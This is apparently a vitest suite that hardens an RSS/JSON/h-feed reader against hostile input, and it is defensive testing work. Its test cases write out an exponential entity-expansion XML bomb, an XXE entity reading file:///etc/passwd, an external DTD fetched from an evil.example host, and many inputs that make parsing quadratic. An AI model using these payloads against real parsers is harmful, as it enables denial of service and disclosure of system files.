/** Input made to cost memory or time. Each would hang or crash a reader that does not count. */
import { describe, expect, it } from 'vitest';

import { utf8 } from '@/lib/core/bytes';
import { type Feed, LIMITS } from '@/lib/feeds/feed';
import { readFeed } from '@/lib/feeds/read-feed';

function read(text: string): Feed {
  const result = readFeed(utf8(text), { url: 'https://e.example/' });
  if (!result.ok) throw new Error(result.error.kind);
  return result.value;
}
const rss = (inside: string): string => `<rss><channel><title>T</title>${inside}</channel></rss>`;
const GOOD = '<item><title>good</title><guid>1</guid></item>';

describe('entities', () => {
  it('a billion laughs stay unexpanded', () => {
    const levels = Array.from(
      { length: 10 },
      (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`,
    );
    const feed = read(
      `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "lol">${levels.join('')}]>${rss('<item><title>&l10;</title></item>')}`,
    );
    expect(feed.items[0]?.title).toBe('&l10;');
  });

  it('one long entity used often adds no more than a bounded number of characters', () => {
    const long = 'a'.repeat(1000);
    const feed = read(
      `<!DOCTYPE x [<!ENTITY a "${long}">]>${rss(`<item><description>${'&a;'.repeat(200_000)}</description></item>`)}`,
    );
    expect(feed.items[0]?.text.length).toBeLessThanOrEqual(LIMITS.textLength);
  });

  it('files and addresses outside are not asked for', () => {
    const feed = read(
      `<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>${rss('<item><title>&f;</title></item>')}`,
    );
    expect(feed.items[0]?.title).toBe('&f;');
  });
});

describe('too much of everything', () => {
  it('depth: what is too deep is left out, what follows is read', () => {
    const feed = read(
      rss(
        `<item><title>deep</title><description>${'<b>'.repeat(200_000)}</description></item>${GOOD}`,
      ),
    );
    expect(feed.items.map(({ title }) => title)).toEqual(['deep', 'good']);
    expect(feed.problems).toContain('too-deep');
  });

  it('depth, shared out over the items', () => {
    const feed = read(rss(`<item>${'<b>'.repeat(250)}`.repeat(400) + GOOD));
    expect(feed.items.at(-1)?.title).toBe('good');
  });

  it('depth of HTML inside an item', () => {
    const feed = read(
      rss(
        `<item><description><![CDATA[${'<div>'.repeat(300_000)}text]]></description></item>${GOOD}`,
      ),
    );
    expect(feed.items[1]?.title).toBe('good');
  });

  it('attributes: the first two hundred count', () => {
    const many = Array.from({ length: 200_000 }, (_, index) => `a${index}="x"`).join(' ');
    expect(read(rss(`<item ${many}><title>good</title></item>`)).items[0]?.title).toBe('good');
  });

  it('namespaces, one inside another', () => {
    const open = Array.from(
      { length: 3000 },
      (_, index) => `<n${index}:x xmlns:n${index}="u${index}">`,
    ).join('');
    expect(read(rss(`<item>${open}</item>${GOOD}`)).items.at(-1)?.title).toBe('good');
  });

  it('items: five hundred', () => {
    const feed = read(rss('<item/>'.repeat(300_000)));
    expect(feed.items).toHaveLength(LIMITS.items);
    expect(feed.problems).toContain('too-many-items');
  });

  it('elements', () => {
    const feed = read(rss(`${GOOD}<item>${'<a/>'.repeat(1_000_000)}</item>`));
    expect(feed.items[0]?.title).toBe('good');
    expect(feed.problems).toContain('too-many-elements');
  });

  it('titles and texts are cut, and that is said', () => {
    const feed = read(
      rss(
        `<item><title>${'t'.repeat(1_000_000)}</title><description>${'d'.repeat(1_000_000)}</description></item>`,
      ),
    );
    expect(feed.items[0]?.title?.length).toBeLessThanOrEqual(LIMITS.titleLength);
    expect(feed.items[0]?.text).toHaveLength(LIMITS.textLength);
    expect(feed.problems).toContain('text-cut');
  });

  it('categories, authors, enclosures and links', () => {
    const feed = read(
      rss(
        `<item>${'<author>a@b.example</author>'.repeat(10)}${Array.from({ length: 5000 }, (_, index) => `<category>${index}</category><enclosure url="https://e.example/${index}"/>`).join('')}<description><![CDATA[${'<a href="https://e.example/">x</a>'.repeat(5000)}]]></description></item>`,
      ),
    );
    expect(feed.items[0]?.categories).toHaveLength(LIMITS.categories);
    expect(feed.items[0]?.enclosures).toHaveLength(LIMITS.enclosures);
    expect(feed.items[0]?.links).toHaveLength(LIMITS.links);
  });
});

/** Each made a regular expression or a loop of ours (or of a reader we know) quadratic. The suite's time limit judges. */
describe('inputs that make careless code quadratic', () => {
  const MANY = 400_000;
  it.each([
    ['ampersands', '&'.repeat(MANY)],
    ['opened tags', '<a'.repeat(MANY)],
    ['unclosed CDATA', '<![CDATA['.repeat(MANY / 8)],
    ['unclosed comments', '<!--'.repeat(MANY / 4)],
    ['unclosed iframes', '&lt;iframe '.repeat(MANY / 8)],
    ['blanks', `a${' '.repeat(MANY)}b`],
    ['blanks in pre', `&lt;pre&gt;a${' '.repeat(MANY)}b`],
    ['nearly base64', `${'AAAA '.repeat(MANY / 4)}!`],
    ['line ends', '\n'.repeat(MANY)],
    ['quotes', '"'.repeat(MANY)],
    ['brackets', '&lt;'.repeat(MANY / 2)],
    ['doctypes', '<!DOCTYPE x ['.repeat(MANY / 10)],
    ['closing tags', '</b>'.repeat(MANY / 4)],
  ])(
    '%s',
    (_, text) => {
      expect(
        read(rss(`${GOOD}<item><description type="x/y">${text}</description></item>`)).items[0]
          ?.title,
      ).toBe('good');
      expect(typeof readFeed(utf8(text), {}).ok).toBe('boolean');
    },
    5000,
  );

  it.each([
    ['lists', '['.repeat(1_000_000)],
    ['objects', '{"items":'.repeat(200_000)],
    ['commas', `{"items":[${','.repeat(1_000_000)}`],
    ['escapes', `{"items":["${'\\'.repeat(1_000_001)}`],
  ])(
    '%s in JSON',
    (_, text) => {
      expect(readFeed(utf8(text), {}).ok).toBe(false);
    },
    5000,
  );

  it('an h-feed with every element a property of every other', () => {
    const page = `<html><body class="h-entry">${'<p class="p-name e-content">x'.repeat(60_000)}`;
    expect(typeof readFeed(utf8(page), { url: 'https://e.example/' }).ok).toBe('boolean');
  }, 10_000);
});
